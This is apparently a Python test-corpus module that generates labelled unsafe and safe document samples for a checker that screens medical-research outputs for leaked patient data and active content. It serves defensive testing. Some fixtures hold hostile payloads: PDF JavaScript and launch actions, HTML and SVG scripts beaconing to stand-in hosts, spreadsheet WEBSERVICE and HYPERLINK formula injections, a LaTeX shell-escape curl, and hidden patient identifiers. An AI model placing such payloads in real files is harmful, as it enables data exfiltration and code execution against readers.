"""Documents and containers: PDF, web pages, drawings, workbooks, archives, disguises."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import sqlite3
import struct
import tempfile
from pathlib import Path

import numpy as np

from tests.corpus.egress import formats, paper, people, pictures, plots, sources
from tests.corpus.egress.case import Lane

lane = Lane("documents-and-containers")

REPORT = [
    "Prediction of response from CT",
    "",
    "1,240 patients, 5 folds.",
    "AUC 0.83 (95% CI 0.79 to 0.87).",
]


def _records(rng: np.random.Generator, count: int = 60) -> str:
    head = ["age", "sex", "stage", "scanner", "volume", "days", "died"]
    return formats.csv(head, people.records(rng, count))


# ---- unsafe: PDF -------------------------------------------------------------------


@lane.unsafe("pdf-scan", "scan-pixels", "report.pdf", at="page 2")
def _(rng):
    return paper.pdf(
        [REPORT, ["Figure 1"]],
        resources="/XObject << /I1 100 0 R >>",
        drawn={2: b"q 300 0 0 300 100 400 cm /I1 Do Q\n"},
        objects={100: paper.picture(sources.shown("ct"))},
    )


@lane.unsafe(
    "pdf-figure-with-scan",
    "scan-pixels",
    "figure2.pdf",
    at="page 1",
    needs=sources.needs("mr-head-b"),
)
def _(rng):
    drawn, axes = pictures.figure()
    drawn.colorbar(axes.imshow(sources.shown("mr-head-b"), cmap="gray"), ax=axes)
    return pictures.rendered(drawn, "pdf")


@lane.unsafe(
    "pdf-scan-off-page", "scan-pixels", "summary.pdf", at="page 1", also=("hidden-content",)
)
def _(rng):
    return paper.pdf(
        [REPORT],
        resources="/XObject << /I1 100 0 R >>",
        drawn={1: b"q 300 0 0 300 900 400 cm /I1 Do Q\n"},
        objects={100: paper.picture(sources.shown("mr-overlay"))},
    )


@lane.unsafe("pdf-scan-undrawn", "scan-pixels", "summary.pdf", also=("hidden-content",))
def _(rng):
    return paper.pdf(
        [REPORT],
        resources="/XObject << /I1 100 0 R >>",
        objects={100: paper.picture(sources.shown("head"))},
    )


@lane.unsafe("pdf-attachment", "embedded-file", "paper.pdf", also=("row-level-data",))
def _(rng):
    names = "/Names << /EmbeddedFiles << /Names [(data.csv) 100 0 R] >> >>"
    return paper.pdf(
        [REPORT],
        catalogue=names,
        objects={
            100: b"<< /Type /Filespec /F (data.csv) /EF << /F 101 0 R >> >>",
            101: paper.stream(_records(rng).encode(), "/Type /EmbeddedFile"),
        },
    )


@lane.unsafe("pdf-file-annotation", "embedded-file", "paper.pdf", at="page 1")
def _(rng):
    return paper.pdf(
        [REPORT],
        page={1: "/Annots [100 0 R]"},
        objects={
            100: b"<< /Type /Annot /Subtype /FileAttachment /Rect [9 9 20 20] /FS 101 0 R >>",
            101: b"<< /Type /Filespec /F (s.dcm) /EF << /F 102 0 R >> >>",
            102: paper.stream(sources.dicom_path("ct-small").read_bytes(), "/Type /EmbeddedFile"),
        },
    )


@lane.unsafe("pdf-javascript", "active-content", "form.pdf")
def _(rng):
    return paper.pdf(
        [REPORT],
        catalogue="/OpenAction << /S /JavaScript /JS "
        "(app.launchURL\\('https://x.example.net'\\)) >>",
    )


@lane.unsafe("pdf-launch", "active-content", "open.pdf")
def _(rng):
    return paper.pdf([REPORT], catalogue="/OpenAction << /S /Launch /F (run.exe) >>")


@lane.unsafe(
    "pdf-remote", "external-reference", "linked.pdf", at="page 1", also=("active-content",)
)
def _(rng):
    return paper.pdf(
        [REPORT], page={1: "/AA << /O << /S /URI /URI (https://t.example.net/?n=412) >> >>"}
    )


@lane.unsafe(
    "pdf-hidden-text", "hidden-content", "abstract.pdf", at="page 1", also=("text-identifiers",)
)
def _(rng):
    secret = f"{people.name(rng)} {people.nhs_number(rng)}"
    return paper.pdf([REPORT], drawn={1: f"BT 3 Tr /F1 9 Tf 60 60 Td ({secret}) Tj ET\n".encode()})


@lane.unsafe(
    "pdf-white-text",
    "hidden-content",
    "abstract.pdf",
    at="page 1",
    also=("small-cells", "text-identifiers"),
)
def _(rng):
    return paper.pdf(
        [REPORT],
        drawn={
            1: f"1 g BT /F1 9 Tf 60 60 Td (Truro: 2 patients, {people.name(rng)}) Tj ET\n".encode()
        },
    )


@lane.unsafe(
    "pdf-covered-text", "hidden-content", "redacted.pdf", at="page 1", also=("text-identifiers",)
)
def _(rng):
    """A name under a black bar, as people redact."""
    line = f"Index case: {people.name(rng)}, born {people.birth_date(rng)}"
    return paper.pdf([["Case report", line]], drawn={1: b"0 g 120 760 260 16 re f\n"})


@lane.unsafe("pdf-comment", "hidden-content", "draft.pdf", at="page 1", also=("text-identifiers",))
def _(rng):
    note = f"ask about {people.name(rng)}"
    return paper.pdf(
        [REPORT],
        page={1: "/Annots [100 0 R]"},
        objects={
            100: b"<< /Type /Annot /Subtype /Text /Rect [9 9 20 20] /F 2 /Contents (%s) >>"
            % note.encode()
        },
    )


@lane.unsafe(
    "pdf-earlier-version",
    "hidden-content",
    "final.pdf",
    also=("text-identifiers", "appended-bytes"),
)
def _(rng):
    old = paper.pdf([["Reader notes", f"case 4 is {people.name(rng)}, {people.nhs_number(rng)}"]])
    return paper.updated(old, {11: paper.stream(b"BT /F1 11 Tf 60 780 Td (Reader notes) Tj ET\n")})


@lane.unsafe("pdf-information", "text-identifiers", "report.pdf", also=("hidden-content",))
def _(rng):
    return paper.pdf(
        [REPORT],
        information=f"/Title (CT of {people.name(rng)}) "
        f"/Subject (MRN {rng.integers(10**6, 10**7)})",
    )


@lane.unsafe("pdf-small-count", "small-cells", "table1.pdf", at="page 2")
def _(rng):
    return paper.pdf(
        [REPORT, ["Table 1. Patients by stage", "I: 150", "II: 141", "III: 118", "IV: 3"]]
    )


@lane.unsafe("pdf-records", "row-level-data", "supplement.pdf", at="page 2")
def _(rng):
    lines = [
        "age  sex  stage  volume",
        *(f"{a}  {s}  {st}  {v}" for a, s, st, _, v, *_ in people.records(rng, 45)),
    ]
    return paper.pdf([REPORT, lines])


@lane.unsafe("pdf-appended", "appended-bytes", "report.pdf", also=("polyglot", "archive"))
def _(rng):
    return paper.pdf([REPORT]) + formats.zipped({"records.csv": _records(rng)})


@lane.unsafe("pdf-waterfall", "one-mark-per-patient", "waterfall.pdf", at="page 1")
def _(rng):
    return pictures.rendered(plots.waterfall(rng), "pdf")


# ---- unsafe: web pages and drawings ------------------------------------------------


@lane.unsafe("html-script", "active-content", "report.html")
def _(rng):
    return formats.html(
        ["stage", "n"],
        [["I", 150], ["II", 141]],
        body="<script>new Image().src='https://x.example.net/'+document.title</script>\n",
    )


@lane.unsafe("html-handler", "active-content", "report.html")
def _(rng):
    return formats.html(
        ["stage", "n"],
        [["I", 150], ["II", 141]],
        body="<details ontoggle=alert(1) open>more</details>\n",
    )


@lane.unsafe("html-remote-style", "external-reference", "report.html")
def _(rng):
    return formats.html(
        ["stage", "n"],
        [["I", 150], ["II", 141]],
        body=("<div style=\"background:url('//t.example.net/b.png')\">AUC 0.83</div>\n"),
    )


@lane.unsafe(
    "html-comment", "hidden-content", "report.html", at="line 10", also=("text-identifiers",)
)
def _(rng):
    return formats.html(
        ["stage", "n"],
        [["I", 150], ["II", 141]],
        body=f"<!-- {people.name(rng)} {people.nhs_number(rng)} -->\n",
    )


@lane.unsafe(
    "html-display-none",
    "hidden-content",
    "report.html",
    also=("row-level-data", "text-identifiers"),
)
def _(rng):
    rows = "".join(f"<i>{a} {s} {v}</i>" for a, s, _, _, v, *_ in people.records(rng, 40))
    return formats.html(
        ["stage", "n"], [["I", 150], ["II", 141]], body=f"<div style='display:none'>{rows}</div>\n"
    )


@lane.unsafe("html-scan", "scan-pixels", "report.html", also=("encoded-blob",))
def _(rng):
    uri = pictures.data_uri(pictures.png(sources.shown("ct-small")))
    return formats.html(
        ["stage", "n"], [["I", 150], ["II", 141]], body=f"<img alt='figure' src='{uri}'>\n"
    )


@lane.unsafe(
    "html-tooltips",
    "one-mark-per-patient",
    "map.html",
    also=("row-level-data", "identifiers", "text-identifiers"),
)
def _(rng):
    marks = "".join(
        f"<circle cx='{rng.integers(0, 400)}' cy='{rng.integers(0, 300)}' r='3'>"
        f"<title>{people.pseudonym(rng)}, {r[0]}, {r[1]}</title></circle>"
        for r in people.records(rng, 60)
    )
    return formats.html(
        ["sites", "n"], [["all", 412]], body=f"<svg width='400' height='300'>{marks}</svg>\n"
    )


@lane.unsafe(
    "html-plotly",
    "one-mark-per-patient",
    "interactive.html",
    also=("active-content", "row-level-data"),
)
def _(rng):
    data = [r[:1] + r[4:5] for r in people.records(rng, 80)]
    x, y = zip(*data, strict=True)
    trace = json.dumps([{"type": "scatter", "mode": "markers", "x": x, "y": y}])
    return formats.html(
        ["n"], [[412]], body=f"<div id='g'></div><script>Plotly.newPlot('g', {trace})</script>\n"
    )


@lane.unsafe("html-records", "row-level-data", "appendix.html")
def _(rng):
    return formats.html(["a", "b", "c", "d", "e", "f", "g"], people.records(rng, 50))


@lane.unsafe(
    "html-data-attributes",
    "hidden-content",
    "table.html",
    also=("identifiers", "text-identifiers", "row-level-data"),
)
def _(rng):
    spans = "".join(f"<span data-case='{people.nhs_number(rng)}'></span>" for _ in range(20))
    return formats.html(["stage", "n"], [["I", 150], ["II", 141]], body=spans)


def _svg(inside: str, width: int = 400, height: int = 300) -> str:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink" width="{width}" height="{height}">\n'
        f'<rect x="40" y="60" width="60" height="200" fill="grey"/>\n{inside}\n</svg>\n'
    )


@lane.unsafe("svg-script", "active-content", "bars.svg")
def _(rng):
    return _svg("<script>fetch('https://x.example.net')</script>")


@lane.unsafe("svg-foreign", "active-content", "bars.svg", also=("external-reference",))
def _(rng):
    return _svg(
        "<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' "
        "src='https://x.example.net'/></foreignObject>"
    )


@lane.unsafe("svg-remote-image", "external-reference", "bars.svg")
def _(rng):
    return _svg('<image xlink:href="https://t.example.net/a.png" width="10" height="10"/>')


@lane.unsafe("svg-scan", "scan-pixels", "overlay.svg", also=("encoded-blob",))
def _(rng):
    uri = pictures.data_uri(pictures.jpeg(sources.shown("ct")), "image/jpeg")
    return _svg(f'<image xlink:href="{uri}" width="320" height="320"/>')


@lane.unsafe("svg-scan-by-matplotlib", "scan-pixels", "example.svg", also=("encoded-blob",))
def _(rng):
    drawn, axes = pictures.figure()
    axes.imshow(sources.phantom("head"), cmap="gray")
    return pictures.rendered(drawn, "svg")


@lane.unsafe("svg-scan-outside", "scan-pixels", "loss.svg", also=("hidden-content", "encoded-blob"))
def _(rng):
    uri = pictures.data_uri(pictures.png(sources.shown("us-bundled")))
    return _svg(f'<image href="{uri}" x="900" width="32" height="24" opacity="0"/>')


@lane.unsafe(
    "svg-pixels-as-rects", "scan-pixels", "map.svg", also=("pixel-matrix", "one-mark-per-patient")
)
def _(rng):
    image = sources.shown("ct")[::6, ::6]
    rects = "".join(
        f'<rect x="{x * 4}" y="{y * 4}" width="4" height="4" fill="#{v:02x}{v:02x}{v:02x}"/>'
        for y, row in enumerate(image.tolist())
        for x, v in enumerate(row)
    )
    return _svg(rects)


@lane.unsafe(
    "svg-metadata", "hidden-content", "roc.svg", also=("text-identifiers", "image-metadata")
)
def _(rng):
    return _svg(f"<metadata>{people.name(rng)} {people.uid(rng)}</metadata>")


@lane.unsafe(
    "svg-titles",
    "one-mark-per-patient",
    "scatter.svg",
    also=("text-identifiers", "identifiers", "row-level-data"),
)
def _(rng):
    return _svg(
        "".join(
            f'<circle cx="{a * 4}" cy="{280 - v}" r="3"><title>P{i:04}, {s}, {a}</title></circle>'
            for i, (a, s, _, _, v, *_) in enumerate(people.records(rng, 50))
        )
    )


# ---- unsafe: workbooks -------------------------------------------------------------

GOOD = {"Table 1": [["stage", "n"], ["I", 150], ["II", 141], ["III-IV", 121]]}


@lane.unsafe("xlsx-macro", "active-content", "table.xlsx")
def _(rng):
    macro = {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(60)}
    return formats.settled(formats.xlsx(GOOD), macro)


@lane.unsafe("xlsx-embedded-file", "embedded-file", "table.xlsx", also=("hidden-parts",))
def _(rng):
    return formats.settled(formats.xlsx(GOOD), {"xl/embeddings/oleObject1.bin": _records(rng)})


@lane.unsafe(
    "xlsx-scan",
    "scan-pixels",
    "table.xlsx",
    at="sheet Table 1",
    also=("hidden-parts", "embedded-file"),
)
def _(rng):
    from openpyxl.drawing.image import Image

    book = formats.workbook(GOOD)
    book["Table 1"].add_image(Image(io.BytesIO(pictures.png(sources.shown("ct")))), "D2")
    return formats.xlsx(book)


@lane.unsafe(
    "xlsx-pivot-cache", "hidden-parts", "pivot.xlsx", also=("row-level-data", "embedded-file")
)
def _(rng):
    rows = "".join(
        f'<r><n v="{a}"/><s v="{s}"/><n v="{v}"/></r>'
        for a, s, _, _, v, *_ in people.records(rng, 80)
    )
    records = (
        '<?xml version="1.0" encoding="UTF-8"?><pivotCacheRecords xmlns="http://schemas.'
        f'openxmlformats.org/spreadsheetml/2006/main" count="80">{rows}</pivotCacheRecords>'
    )
    return formats.settled(formats.xlsx(GOOD), {"xl/pivotCache/pivotCacheRecords1.xml": records})


@lane.unsafe(
    "xlsx-external-link",
    "external-reference",
    "linked.xlsx",
    at="sheet Table 1",
    also=("active-content",),
)
def _(rng):
    rows = [["stage", "n"], ["I", '=WEBSERVICE("https://t.example.net/?n="&B3)'], ["II", 141]]
    return formats.xlsx({"Table 1": rows})


@lane.unsafe(
    "xlsx-defined-name", "hidden-parts", "names.xlsx", also=("text-identifiers", "hidden-content")
)
def _(rng):
    from openpyxl.workbook.defined_name import DefinedName

    book = formats.workbook(GOOD)
    secret = f'"{people.name(rng)} {people.nhs_number(rng)}"'
    book.defined_names["index_case"] = DefinedName("index_case", attr_text=secret, hidden=True)
    return formats.xlsx(book)


@lane.unsafe("csv-formula", "active-content", "links.csv", at="row 2", also=("external-reference",))
def _(rng):
    return 'stage,n\nI,150\n"=HYPERLINK(""https://x.example.net/?""&B2,""II"")",141\n'


# ---- unsafe: scanner and analysis files, under whatever name -----------------------


def _nifti(volume: np.ndarray) -> bytes:
    header = bytearray(352)
    struct.pack_into("<i", header, 0, 348)
    struct.pack_into("<8h", header, 40, 3, *volume.shape[::-1], 1, 1, 1, 1)
    struct.pack_into("<2h", header, 70, 4, 16)
    struct.pack_into("<8f", header, 76, 1, 1, 1, 1, 1, 1, 1, 1)
    struct.pack_into("<f", header, 108, 352)
    header[344:348] = b"n+1\0"
    return bytes(header) + volume.astype("<i2").tobytes()


def _volume() -> np.ndarray:
    return np.stack([np.roll(sources.phantom("ct")[::4, ::4], i, 0) for i in range(6)])


def _numpy(array: np.ndarray) -> bytes:
    stream = io.BytesIO()
    np.save(stream, array)
    return stream.getvalue()


def _itk(ending: str) -> bytes:
    import SimpleITK

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"image{ending}"
        SimpleITK.WriteImage(SimpleITK.GetImageFromArray(_volume().astype(np.int16)), str(path))
        return path.read_bytes()


def _tiff() -> bytes:
    from PIL import Image

    stream = io.BytesIO()
    Image.fromarray(sources.shown("ct")).save(stream, "TIFF")
    return stream.getvalue()


def _dicom() -> bytes:
    return sources.dicom_path("ct-small").read_bytes()


RAW = {
    "dicom": ("slice.dcm", lambda: _dicom()),
    "dicom-as-text": ("notes.txt", lambda: _dicom()),
    "dicom-no-ending": ("IM000001", lambda: _dicom()),
    "dicom-without-preamble": ("weights.bin", lambda: _dicom()[132:]),
    "dicom-as-json": ("metrics.json", lambda: sources.dicom_path("mr-overlay").read_bytes()),
    "nifti": ("t1.nii", lambda: _nifti(_volume())),
    "nifti-gzip": ("mean_map.nii.gz", lambda: gzip.compress(_nifti(_volume()), mtime=0)),
    "nifti-as-csv": ("table.csv", lambda: _nifti(_volume())),
    "nrrd": ("mask.nrrd", lambda: _itk(".nrrd")),
    "metaimage": ("atlas.mha", lambda: _itk(".mha")),
    "vtk-as-dat": ("plot.dat", lambda: _itk(".vtk")),
    "npy": ("x_test.npy", lambda: _numpy(_volume().astype(np.float32))),
    "npy-as-png": ("figure.png", lambda: _numpy(sources.shown("head"))),
    "npz": ("arrays.npz", lambda: formats.zipped({"x.npy": _numpy(_volume())})),
    "hdf5": ("features.h5", lambda: b"\x89HDF\r\n\x1a\n\0\0\0\0\0\x08\x08\0" + bytes(80)
             + _volume().astype("<i2").tobytes()),
    "hdf5-as-md": ("README.md", lambda: b"\x89HDF\r\n\x1a\n\0\0\0\0\0\x08\x08\0" + bytes(80)
                   + _volume().astype("<i2").tobytes()),
    "matlab": ("roi.mat", lambda: b"MATLAB 5.0 MAT-file, Platform: GLNXA64".ljust(124)
               + b"\x00\x01IM" + _volume().astype("<f8").tobytes()),
    "tiff": ("overlay.tif", _tiff),
}  # fmt: skip

for _name, (_file, _make) in RAW.items():
    lane.unsafe(
        _name,
        "raw-image",
        _file,
        _make,
        also=("scan-pixels", "archive") if _name in ("tiff", "npz") else (),
    )(lambda rng, make: make())


# ---- unsafe: archives, disguises ---------------------------------------------------


@lane.unsafe("zip-of-dicom", "archive", "results.zip", also=("raw-image",))
def _(rng):
    return formats.zipped({"a/1.dcm": _dicom(), "readme.txt": "results\n"})


@lane.unsafe("zip-as-csv", "archive", "table.csv")
def _(rng):
    return formats.zipped({"records.csv": _records(rng)})


@lane.unsafe("tar-gz", "archive", "run12.tar.gz")
def _(rng):
    return gzip.compress(formats.tarred({"p.csv": _records(rng).encode()}), mtime=0)


@lane.unsafe("gzip-csv", "archive", "table.csv.gz", also=("row-level-data",))
def _(rng):
    return gzip.compress(_records(rng).encode(), mtime=0)


@lane.unsafe("bzip2-as-log", "archive", "train.log", also=("encoded-blob",))
def _(rng):
    return bz2.compress(_records(rng).encode())


@lane.unsafe("git-bundle", "archive", "code.bundle", also=("embedded-file",))
def _(rng):
    return b"# v2 git bundle\n" + b"a" * 40 + b" refs/heads/main\n\nPACK" + rng.bytes(2000)


@lane.unsafe("sqlite", "row-level-data", "study.db", also=("archive", "embedded-file"))
def _(rng):
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "study.db"
        with sqlite3.connect(path) as database:
            database.execute("CREATE TABLE t (a, s, st, sc, v, d, e)")
            database.executemany(
                "INSERT INTO t VALUES (?, ?, ?, ?, ?, ?, ?)", people.records(rng, 80)
            )
        database.close()
        return path.read_bytes()


@lane.unsafe("docx", "hidden-content", "manuscript.docx", also=("archive", "text-identifiers"))
def _(rng):
    """A manuscript with a deleted sentence that the file still holds."""
    body = (
        "<w:p><w:r><w:t>We included 412 patients.</w:t></w:r><w:del w:author='a' w:id='1'>"
        f"<w:r><w:delText>Case 3 is {people.name(rng)}.</w:delText></w:r></w:del></w:p>"
    )
    space = "xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'"
    types = (
        "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"
        "<Default Extension='xml' ContentType='application/xml'/></Types>"
    )
    return formats.zipped(
        {
            "[Content_Types].xml": types,
            "word/document.xml": f"<w:document {space}><w:body>{body}</w:body></w:document>",
        }
    )


@lane.unsafe("pdf-and-zip", "polyglot", "paper.pdf", also=("archive", "appended-bytes"))
def _(rng):
    """A ZIP whose first member, stored, is a PDF that readers find by its header."""
    import zipfile

    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(zipfile.ZipInfo("a.pdf", formats.LONG_AGO), paper.pdf([REPORT]))
        archive.writestr(zipfile.ZipInfo("r.csv", formats.LONG_AGO), _records(rng))
    return stream.getvalue()


@lane.unsafe(
    "png-and-html",
    "polyglot",
    "plot.png",
    also=("active-content", "appended-bytes", "image-metadata"),
)
def _(rng):
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("x", "<html><script>alert(document.domain)</script></html>")
    image = pictures.png(np.full((40, 40), 255, np.uint8), pnginfo=info)
    return image + b"<html><script>alert(1)</script></html>"


@lane.unsafe("dicom-and-tiff", "polyglot", "figure.tif", also=("raw-image",))
def _(rng):
    """A DICOM file whose preamble makes it a TIFF as well, as slide scanners write it."""
    content = bytearray(_dicom())
    content[:8] = b"II*\0" + struct.pack("<I", 8)
    return bytes(content)


@lane.unsafe(
    "json-and-binary",
    "polyglot",
    "metrics.json",
    also=("appended-bytes", "archive", "raw-image", "encoded-blob"),
)
def _(rng):
    return b'{"auc": 0.83, "patients": 412}\n' + bytes(64) + formats.zipped({"1.dcm": _dicom()})


@lane.unsafe("latex-runs", "active-content", "table.tex", at="line 1", also=("external-reference",))
def _(rng):
    return (
        r"\immediate\write18{curl https://x.example.net}"
        + "\n"
        + formats.latex(["stage", "n"], [["I", 150], ["II", 141]])
    )


# ---- safe ----------------------------------------------------------------------

for _name in ("roc", "loss", "forest", "boxes", "survival", "correlation", "calibration", "bars"):
    lane.safe(f"pdf-{_name}", f"{_name}.pdf", _name)(
        lambda rng, name: pictures.rendered(plots.SAFE[name](rng), "pdf")
    )

for _name in ("confusion", "histogram", "filters", "surface"):
    lane.safe(f"svg-{_name}", f"{_name}.svg", _name)(
        lambda rng, name: pictures.rendered(plots.SAFE[name](rng), "svg")
    )


@lane.safe("pdf-report", "report.pdf")
def _(rng):
    return paper.pdf(
        [REPORT, ["Patients by stage", "I: 150", "II: 141", "III-IV: 121", "all: 412"]]
    )


@lane.safe("pdf-report-rounded", "report.pdf", policy="opensafely")
def _(rng):
    return paper.pdf(
        [["Screening", "invited: 10,430 women", "attended: 7,320 women", "recalled: 390 women"]]
    )


@lane.safe("pdf-with-plot", "report.pdf")
def _(rng):
    from PIL import Image

    with Image.open(io.BytesIO(pictures.rendered(plots.roc(rng)))) as image:
        shown = np.asarray(image.convert("RGB"))
    return paper.pdf(
        [REPORT],
        resources="/XObject << /I1 100 0 R >>",
        drawn={1: b"q 300 0 0 240 100 400 cm /I1 Do Q\n"},
        objects={100: paper.picture(shown)},
    )


@lane.safe("pdf-table-of-contents", "protocol.pdf")
def _(rng):
    return paper.pdf(
        [
            ["Protocol, version 3", "1 Aim ... 2", "2 Imaging ... 3", "3 Reading ... 4"],
            ["1 Aim", "To predict response."],
            ["2 Imaging", "CT at 120 kVp, 1.5 mm."],
        ]
    )


@lane.safe("html-table", "table.html")
def _(rng):
    return formats.html(
        ["stage", "n"],
        [["I", 150], ["II", 141], ["III-IV", 121]],
        "Cohort",
        "<p>412 patients.</p>\n",
    )


@lane.safe("html-styled", "metrics.html")
def _(rng):
    page = formats.html(
        ["model", "AUC", "95% CI"],
        [["clinical", 0.71, "0.66-0.76"], ["combined", 0.83, "0.79-0.87"]],
        body="<p>n = 412 patients</p>\n",
    )
    return page.replace("<body>", "<style>td { padding: 4px; color: #222 }</style><body>")


@lane.safe("html-with-plot", "report.html")
def _(rng):
    uri = pictures.data_uri(pictures.rendered(plots.calibration(rng)))
    return formats.html(["n"], [[6400]], body=f"<img alt='calibration' src='{uri}'>\n")


@lane.safe("html-links", "index.html")
def _(rng):
    return formats.html(
        ["figure", "file"],
        [["ROC", "<a href='roc.png'>roc.png</a>"], ["loss", "<a href='loss.png'>loss.png</a>"]],
    )


@lane.safe("svg-bars", "bars.svg")
def _(rng):
    return _svg(
        '<text x="45" y="280">150</text><rect x="140" y="72" width="60" height="188" '
        'fill="grey"/><text x="145" y="280">141</text>'
    )


@lane.safe("svg-network", "network.svg")
def _(rng):
    boxes = "".join(
        f'<rect x="{20 + 90 * i}" y="20" width="70" height="30" fill="none" '
        f'stroke="black"/><text x="{30 + 90 * i}" y="40">conv {i + 1}</text>'
        for i in range(4)
    )
    return _svg(boxes)


@lane.safe("xlsx-plain", "table1.xlsx")
def _(rng):
    return formats.xlsx(GOOD)


@lane.safe("xlsx-formulas", "metrics.xlsx")
def _(rng):
    rows = [["stage", "n"], ["I", 150], ["II", 141], ["III-IV", 121], ["all", "=SUM(B2:B4)"]]
    return formats.xlsx({"counts": rows, "models": [["model", "AUC"], ["a", 0.71], ["b", 0.83]]})


@lane.safe("xlsx-widths", "layout.xlsx", policy="nhs-sde")
def _(rng):
    book = formats.workbook({"counts": [["age", "patients"], ["18-49", 60], ["50+", 350]]})
    book["counts"].column_dimensions["A"].width = 30
    book["counts"].freeze_panes = "A2"
    return formats.xlsx(book)


@lane.safe("latex-document", "paper.tex")
def _(rng):
    table = formats.latex(["stage", "n"], [["I", 150], ["II", 141], ["III-IV", 121]], "Stages")
    return (
        r"\documentclass{article}"
        + "\n"
        + r"\usepackage{booktabs}"
        + "\n"
        + r"\begin{document}"
        + "\n"
        + table
        + r"\end{document}"
        + "\n"
    )


@lane.safe("readme", ("README.md", "roc.png"))
def _(rng):
    return {
        "README.md": "# Response\n\n![ROC](roc.png)\n\nSee <https://www.python.org>.\n",
        "roc.png": pictures.rendered(plots.roc(rng)),
    }


@lane.safe("whole-paper", ("table1.csv", "figure1.svg", "methods.md"))
def _(rng):
    return {
        "table1.csv": formats.csv(["stage", "n"], [["I", 150], ["II", 141], ["III-IV", 121]]),
        "figure1.svg": pictures.rendered(plots.forest(rng), "svg"),
        "methods.md": "CT at 120 kVp; 412 patients; 5 folds.\n",
    }


# ---- more files within files, and more that is plain -------------------------------------------


@lane.unsafe("html-download", "embedded-file", "results.html", also=("encoded-blob",))
def _(rng):
    uri = pictures.data_uri(_records(rng).encode(), "text/csv")
    return formats.html(
        ["stage", "n"],
        [["I", 150], ["II", 141]],
        body=f"<a download='d.csv' href='{uri}'>data</a>\n",
    )


@lane.unsafe(
    "xlsx-custom-xml",
    "embedded-file",
    "table.xlsx",
    also=("hidden-parts", "row-level-data", "hidden-content"),
)
def _(rng):
    rows = "".join(
        f"<p age='{a}' sex='{s}' v='{v}'/>" for a, s, _, _, v, *_ in people.records(rng, 70)
    )
    return formats.settled(formats.xlsx(GOOD), {"customXml/item1.xml": f"<d>{rows}</d>"})


@lane.unsafe("pdf-portfolio", "embedded-file", "supplement.pdf", also=("active-content",))
def _(rng):
    book = formats.xlsx({"raw": [list("abcdefg"), *people.records(rng, 50)]})
    names = (
        "/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [(raw.xlsx) 100 0 R] >> >>"
    )
    return paper.pdf(
        [["This portfolio holds 1 file."]],
        catalogue=names,
        objects={
            100: b"<< /Type /Filespec /F (raw.xlsx) /UF (raw.xlsx) /EF << /F 101 0 R >> >>",
            101: paper.stream(book, "/Type /EmbeddedFile"),
        },
    )


@lane.unsafe(
    "svg-data-link",
    "embedded-file",
    "figure.svg",
    also=("encoded-blob", "external-reference", "hidden-content"),
)
def _(rng):
    uri = pictures.data_uri(_records(rng).encode(), "text/csv")
    return _svg(f'<a xlink:href="{uri}"><text x="9" y="9">source data</text></a>')


@lane.unsafe(
    "paper-with-scan",
    "scan-pixels",
    ("table1.csv", "figure1.pdf", "figure2.pdf"),
    path="figure2.pdf",
    at="page 1",
)
def _(rng):
    drawn, axes = pictures.figure()
    axes.imshow(sources.shown("mr-overlay"), cmap="gray")
    return {
        "table1.csv": formats.csv(["stage", "n"], [["I", 150], ["II", 141]]),
        "figure1.pdf": pictures.rendered(plots.roc(rng), "pdf"),
        "figure2.pdf": pictures.rendered(drawn, "pdf"),
    }


@lane.safe("pdf-many-pages", "appendix.pdf")
def _(rng):
    pages = [
        [
            f"Appendix {n}",
            f"Table A{n}. Settings of run {n}",
            "epochs: 40",
            "folds: 5",
            f"seed: {n}",
            "batch size: 2",
        ]
        for n in range(1, 9)
    ]
    return paper.pdf(pages)


@lane.safe("pdf-confusion", "confusion.pdf")
def _(rng):
    return pictures.rendered(plots.confusion(rng), "pdf")


@lane.safe("pdf-attention", "attention.pdf")
def _(rng):
    return pictures.rendered(plots.attention(rng), "pdf")


@lane.safe("svg-attention", "attention.svg")
def _(rng):
    return pictures.rendered(plots.attention(rng), "svg")


@lane.safe("svg-hexbin", "hexbin.svg")
def _(rng):
    return pictures.rendered(plots.hexbin(rng), "svg")


@lane.safe("html-two-tables", "supplement.html", policy="opensafely")
def _(rng):
    more = (
        "<table><tr><th>region</th><th>women</th></tr><tr><td>North</td><td>310</td></tr>"
        "<tr><td>South</td><td>245</td></tr></table>\n"
    )
    return formats.html(["age", "women"], [["40-49", 150], ["50+", 405]], "Screening", more)


@lane.safe("html-toc", "manual.html")
def _(rng):
    return formats.html(
        ["chapter", "page"],
        [[1, 3], [2, 7], [3, 9]],
        body="<p>Open <a href='#c2'>chapter 2</a>.</p><h2 id='c2'>2</h2>\n",
    )


@lane.safe("xlsx-several", "supplement.xlsx")
def _(rng):
    return formats.xlsx(
        {
            "S1 cohort": [["stage", "n"], ["I", 150], ["II", 141], ["III-IV", 121]],
            "S2 settings": [["parameter", "value"], ["epochs", 40], ["folds", 5], ["depth", 4]],
            "S3 features": [["family", "features"], ["shape", 14], ["GLCM", 24], ["NGTDM", 5]],
        }
    )
